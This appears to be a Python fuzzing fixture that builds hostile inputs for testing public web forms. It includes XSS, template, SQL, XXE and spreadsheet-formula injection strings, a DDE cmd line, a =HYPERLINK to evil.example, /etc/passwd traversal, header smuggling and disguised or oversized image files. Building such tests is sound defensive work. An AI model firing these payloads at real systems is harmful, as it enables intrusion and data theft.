"""Hostile input for public forms: scripts, formulas, tricks of Unicode, sheer size, broken bytes, files that are not what they say.

Each is made of a part that harms where nobody looks and a wrapping that hides it; a drawing never ends, so long forms
of a test draw more of the same.
"""

import io
import random
import struct
import zlib
from collections.abc import Iterator

from PIL import Image

MARK = "zq8harm"
"""Stands in every harmful part, so that it can be looked for in every page."""

PARTS: tuple[str | bytes, ...] = (
    f"<script>{MARK}()</script>",
    f"<ScRiPt\n>{MARK}()//",
    f"<img src=x onerror={MARK}()>",
    f"<svg/onload={MARK}()>",
    f'"><iframe srcdoc="<script>{MARK}()</script>">',
    f"' onmouseover='{MARK}()",
    f"</textarea><script>{MARK}()</script>",
    f"</title><script>{MARK}()</script>",
    f"javascript:{MARK}()",
    f"data:text/html,<script>{MARK}()</script>",
    f"{{{{{MARK}*7}}}}{{%print({MARK})%}}",
    f"${{{MARK}}}#{{{MARK}}}<%={MARK}%>",
    f'=HYPERLINK("http://evil.example/{MARK}")',
    f"+cmd|' /C {MARK}'!A0",
    f"@SUM(1)*{MARK}",
    f"-2+3+{MARK}",
    f"\t={MARK}",
    f"＝{MARK}",
    f"'; DROP TABLE proposal; -- {MARK}",
    f"x' OR '1'='1 {MARK}",
    f"\\{MARK}%_%",
    f"%s%n%(x)s{{0}} {MARK}",
    f"../../../etc/passwd%00{MARK}",
    f"{MARK}\r\nSet-Cookie: device=evil\r\n\r\n<script>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;{MARK}",
    f"]]><x>{MARK}</x>",
    f"=?utf-8?b?PHNjcmlwdD4=?= {MARK}@evil.example\nBcc: all@evil.example",
    MARK.encode() + b"\xff\xfe\xed\xa0\x80\xc0\xaf",
    f"\x00{MARK}\x1b[31m\x7f\x9b",
)
WRAPPINGS = (
    "{}",
    "校门口建一座天桥 {} 谢谢",
    "\u202e{}\u202c",
    "\u200b\u2060{}\ufeff",
    "é{}ﷺ𝕏",
    "👨‍👩‍👧‍👦{}🇨🇳",
    "\u0300" * 200 + "{}",
    "{}\n" * 40,
    " " * 5000 + "{}",
    "长" * 20_000 + "{}",
    "第一行\r\n{}\r\n第三行",
    "\ud7ff{}\uffff",
)
OTHERS = (
    "",
    " ",
    "0",
    "-1",
    "9" * 400,
    "1e309",
    "NaN",
    "²",
    "None",
    "[]",
    "2026-02-30",
    "satisfied'--",
    "\x00",
)


def words(draw: random.Random) -> bytes:
    """One hostile text."""
    part, wrapping = draw.choice(PARTS), draw.choice(WRAPPINGS)
    before, mark, after = wrapping.partition("{}")
    whole = part if isinstance(part, bytes) else part.encode()
    turned = whole.swapcase() if draw.random() < 0.1 else whole
    return before.encode() + turned * wrapping.count("{}") + after.encode() if mark else turned


def chosen(draw: random.Random) -> bytes:
    """Something for a field that offers a choice, a number or a day."""
    return words(draw) if draw.random() < 0.5 else draw.choice(OTHERS).encode()


def picture(kind: str, size: tuple[int, int] = (8, 8)) -> bytes:
    """A real, small picture."""
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, kind)
    return buffer.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    """One part of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def vast_png() -> bytes:
    """A PNG of a few bytes that says it is 50,000 pixels wide and high."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


SCRIPT = f"<script>{MARK}()</script>".encode()
PICTURES: tuple[tuple[bytes, str, bytes], ...] = (
    (b"a.png", "image/png", vast_png()),
    (b"a.jpg", "image/jpeg", picture("JPEG") + SCRIPT),
    (b"a.gif", "image/gif", b"GIF89a/*" + SCRIPT + b"*/=1;"),
    (
        b"a.svg",
        "image/svg+xml",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="' + MARK.encode() + b'()"/>',
    ),
    (b"a.jpg", "image/jpeg", picture("JPEG")[:60]),
    (b"a.png", "image/png", picture("PNG")[:40] + b"\0" * 5000),
    (b"a.html", "image/png", SCRIPT),
    (b"a.webp", "image/webp", picture("WEBP")),
    (b"a.tif", "image/tiff", picture("TIFF")),
    (b"../../" + "长".encode() * 200 + b".jpg", "image/jpeg", picture("JPEG")),
    (b'a".jpg', "text/html", picture("PNG", (3000, 1))),
    (b"a.zip", "image/jpeg", b"PK\x03\x04" + b"\0" * 100),
    (b"", "application/octet-stream", b""),
    (b"a.jpg", "image/jpeg", b"\xff" * 200_000),
)


def files(draw: random.Random) -> Iterator[tuple[bytes, str, bytes]]:
    """Several hostile files for one field."""
    yield from draw.sample(PICTURES, draw.choice((1, 1, 2)))
